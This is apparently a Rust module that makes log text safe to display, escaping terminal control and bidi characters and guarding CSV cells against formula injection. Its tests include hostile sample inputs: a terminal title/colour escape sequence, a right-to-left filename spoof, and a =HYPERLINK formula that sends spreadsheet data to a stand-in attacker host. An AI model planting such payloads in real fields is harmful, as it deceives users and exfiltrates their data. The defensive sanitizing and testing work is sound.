//! Log content made safe for where it is shown. Whoever types a user name writes these strings:
//! a terminal must not act on them, a spreadsheet must not evaluate them.
//!
//! - [`terminal`]: for every human-readable output (tables, text reports, summaries, error
//!   messages). C0 controls, DEL, C1 controls and the bidirectional formatting characters
//!   (the overrides and isolates U+202A-U+202E, U+2066-U+2069, and the marks U+200E, U+200F,
//!   U+061C) are written as escapes (`\x1b`, `\u{202e}`); nothing else changes.
//! - [`csv_cell`]: for CSV string cells. A cell a spreadsheet would evaluate as a formula (its
//!   first character is `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, as
//!   OWASP's guidance on CSV injection says; spreadsheets show it as text.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Whether a terminal could act on `c` (move the cursor, set the title, reorder the line).
pub fn is_unsafe_for_terminal(c: char) -> bool {
    // `is_control` is Unicode's Cc: C0 (U+0000-U+001F), DEL (U+007F) and C1 (U+0080-U+009F).
    c.is_control()
        || matches!(
            c,
            '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
        )
}

/// `s` with every character [`is_unsafe_for_terminal`] written as an escape: `\n`, `\r`, `\t`,
/// `\x1b` for the other ASCII controls, `\u{9b}` / `\u{202e}` beyond ASCII. Borrowed when there
/// is nothing to escape.
pub fn terminal(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_unsafe_for_terminal) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_ascii() && is_unsafe_for_terminal(c) => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if is_unsafe_for_terminal(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Whether a spreadsheet would evaluate a cell that starts like `s`.
pub fn is_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A CSV string cell a spreadsheet shows as text: `'` put before a [`is_formula`] value.
/// Borrowed when it is not one.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    if is_formula(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A user name that sets the terminal's title and turns the text red when printed raw.
    const TITLE_AND_COLOUR: &str = "\x1b]0;pwned\x07\x1b[31mred";
    /// A user name that a spreadsheet turns into a link sending the sheet's data away.
    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    #[test]
    fn terminal_escapes_controls_and_bidi() {
        assert_eq!(terminal(TITLE_AND_COLOUR), "\\x1b]0;pwned\\x07\\x1b[31mred");
        assert_eq!(terminal("a\u{7f}b\u{9b}c"), "a\\x7fb\\u{9b}c");
        assert_eq!(
            terminal("admin\u{202e}gpj.exe\u{2066}x\u{2069}"),
            "admin\\u{202e}gpj.exe\\u{2066}x\\u{2069}"
        );
        assert_eq!(terminal("line\nnext\r\tx\0"), "line\\nnext\\r\\tx\\x00");
        for c in ('\0'..='\u{9f}')
            .chain('\u{202a}'..='\u{202e}')
            .chain('\u{2066}'..='\u{2069}')
        {
            if c.is_ascii_graphic() || c == ' ' {
                continue;
            }
            let s = c.to_string();
            assert!(!terminal(&s).contains(c), "{:x} is emitted", c as u32);
        }
    }

    #[test]
    fn terminal_leaves_ordinary_text_alone() {
        for s in [
            "alice",
            "Zoë Ünal",
            "DOMAIN\\bob",
            "日本語",
            "a b",
            "-5",
            "=x",
        ] {
            assert!(matches!(terminal(s), Cow::Borrowed(_)), "{s}");
        }
    }

    #[test]
    fn csv_cell_quotes_what_a_spreadsheet_evaluates() {
        assert_eq!(csv_cell(HYPERLINK), format!("'{HYPERLINK}"));
        for s in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(csv_cell(s), format!("'{s}"), "{s:?}");
        }
        for s in ["alice", "", " =1", "a=b", "'quoted", "1-2"] {
            assert!(matches!(csv_cell(s), Cow::Borrowed(_)), "{s:?}");
        }
    }
}
